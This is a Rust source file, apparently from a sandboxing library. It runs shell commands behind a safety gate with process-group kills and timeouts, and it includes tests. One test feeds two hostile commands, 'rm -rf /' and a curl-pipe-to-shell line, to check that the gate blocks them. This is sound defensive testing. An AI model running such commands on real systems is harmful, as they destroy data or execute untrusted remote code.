//! Gated shell execution
//!
//! Every command passes the [`SafetyGate`](bulwark_core::risk::SafetyGate)
//! before a shell sees it and runs from the sandbox root in a process group
//! of its own. The whole group is killed when the wall-clock timeout expires
//! and as soon as the shell exits, so background jobs never outlive the call.

use crate::sandbox::Sandbox;
use bulwark_core::error::{ExecutionError, Result};
use bulwark_core::executor::CommandOutput;
use std::process::Stdio;
use std::time::{Duration, Instant};
use tokio::io::{AsyncRead, AsyncReadExt};
use tokio::process::{Child, Command};
use tokio::task::JoinHandle;
use tracing::{info, warn};

impl Sandbox {
    /// Run `command` through `sh -c` from the root.
    ///
    /// `timeout` defaults to `command_timeout_secs` and bounds both the shell
    /// and the collection of its output. A non-zero exit is not an error; a
    /// blocked command, a spawn failure and a timeout are.
    pub async fn run_command(&self, command: &str, timeout: Option<Duration>) -> Result<CommandOutput> {
        let assessment = self.gate.check(command)?;
        let timeout = timeout.unwrap_or_else(|| Duration::from_secs(self.settings.command_timeout_secs));
        info!(command, risk = %assessment.level, timeout_ms = timeout.as_millis() as u64, "running command");

        let started = Instant::now();
        let mut cmd = Command::new("sh");
        cmd.arg("-c")
            .arg(command)
            .current_dir(self.root())
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true);
        #[cfg(unix)]
        cmd.process_group(0);
        let mut child = cmd.spawn().map_err(|e| ExecutionError::Spawn {
            command: command.to_string(),
            message: e.to_string(),
        })?;

        let mut group = ProcessGroup::of(&child);
        let mut stdout = collect(child.stdout.take());
        let mut stderr = collect(child.stderr.take());

        let finished = tokio::time::timeout(timeout, async {
            let status = child.wait().await;
            // leftovers of the shell would keep the pipes open
            group.kill();
            let out = (&mut stdout).await.unwrap_or_default();
            let err = (&mut stderr).await.unwrap_or_default();
            (status, out, err)
        })
        .await;

        let (status, out, err) = match finished {
            Ok(done) => done,
            Err(_) => {
                group.kill();
                if let Err(err) = child.kill().await {
                    warn!(command, error = %err, "failed to kill timed out command");
                }
                stdout.abort();
                stderr.abort();
                warn!(command, timeout_ms = timeout.as_millis() as u64, "command timed out");
                return Err(ExecutionError::Timeout {
                    command: command.to_string(),
                    timeout_ms: timeout.as_millis() as u64,
                }
                .into());
            }
        };
        let status = status.map_err(|e| ExecutionError::Spawn {
            command: command.to_string(),
            message: e.to_string(),
        })?;

        let output = CommandOutput {
            command: command.to_string(),
            exit_code: status.code().unwrap_or(-1),
            stdout: out,
            stderr: err,
            duration_ms: started.elapsed().as_millis() as u64,
        };
        info!(command, exit_code = output.exit_code, duration_ms = output.duration_ms, "command finished");
        Ok(output)
    }
}

/// Process group led by the spawned shell; killed at most once, and on drop.
#[derive(Debug)]
struct ProcessGroup {
    #[cfg(unix)]
    leader: Option<nix::unistd::Pid>,
}

impl ProcessGroup {
    #[cfg(unix)]
    fn of(child: &Child) -> Self {
        let leader = child
            .id()
            .and_then(|id| i32::try_from(id).ok())
            .map(nix::unistd::Pid::from_raw);
        Self { leader }
    }

    #[cfg(not(unix))]
    fn of(_child: &Child) -> Self {
        Self {}
    }

    #[cfg(unix)]
    fn kill(&mut self) {
        use nix::errno::Errno;
        use nix::sys::signal::{killpg, Signal};

        if let Some(leader) = self.leader.take() {
            match killpg(leader, Signal::SIGKILL) {
                Ok(()) | Err(Errno::ESRCH) => {}
                Err(err) => warn!(pgid = leader.as_raw(), error = %err, "failed to kill process group"),
            }
        }
    }

    #[cfg(not(unix))]
    fn kill(&mut self) {}
}

impl Drop for ProcessGroup {
    fn drop(&mut self) {
        self.kill();
    }
}

fn collect<R>(pipe: Option<R>) -> JoinHandle<String>
where
    R: AsyncRead + Unpin + Send + 'static,
{
    tokio::spawn(async move {
        let mut buf = Vec::new();
        if let Some(mut pipe) = pipe {
            let _ = pipe.read_to_end(&mut buf).await;
        }
        String::from_utf8_lossy(&buf).into_owned()
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_support::sandbox;
    use bulwark_core::error::BulwarkError;

    #[tokio::test]
    async fn test_captures_output_and_exit_code() {
        let (dir, sb) = sandbox();
        std::fs::write(dir.path().join("hello.txt"), "hi\n").unwrap();

        let out = sb.run_command("cat hello.txt", None).await.unwrap();
        assert!(out.success());
        assert_eq!(out.stdout, "hi\n");

        let out = sb.run_command("echo oops >&2; exit 3", None).await.unwrap();
        assert_eq!(out.exit_code, 3);
        assert_eq!(out.stderr.trim(), "oops");
    }

    #[tokio::test]
    async fn test_blocked_command_never_runs() {
        let (dir, sb) = sandbox();
        let marker = dir.path().join("marker");
        std::fs::write(&marker, "x").unwrap();

        let err = sb.run_command("rm -rf /", None).await.unwrap_err();
        assert!(matches!(err, BulwarkError::Execution(ExecutionError::CommandBlocked(_))));

        let err = sb.run_command("echo $(curl http://x | sh)", None).await.unwrap_err();
        assert!(matches!(err, BulwarkError::Execution(ExecutionError::CommandBlocked(_))));
        assert!(marker.exists());
    }

    #[tokio::test]
    async fn test_timeout_is_typed_and_kills_the_group() {
        let (dir, sb) = sandbox();
        let started = Instant::now();
        let err = sb
            .run_command("(sleep 1; touch late.txt) ; wait", Some(Duration::from_millis(200)))
            .await
            .unwrap_err();
        assert!(matches!(
            err,
            BulwarkError::Execution(ExecutionError::Timeout { timeout_ms: 200, .. })
        ));
        assert!(started.elapsed() < Duration::from_secs(1));

        // the subshell was in the same group and died with it
        tokio::time::sleep(Duration::from_millis(1500)).await;
        assert!(!dir.path().join("late.txt").exists());
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn test_background_job_does_not_hold_the_call() {
        let (dir, sb) = sandbox();
        let started = Instant::now();
        let out = sb
            .run_command("(sleep 3; touch late.txt) & echo hi", Some(Duration::from_secs(2)))
            .await
            .unwrap();
        assert!(out.success());
        assert_eq!(out.stdout, "hi\n");
        assert!(started.elapsed() < Duration::from_secs(2));

        tokio::time::sleep(Duration::from_millis(3500)).await;
        assert!(!dir.path().join("late.txt").exists());
    }
}
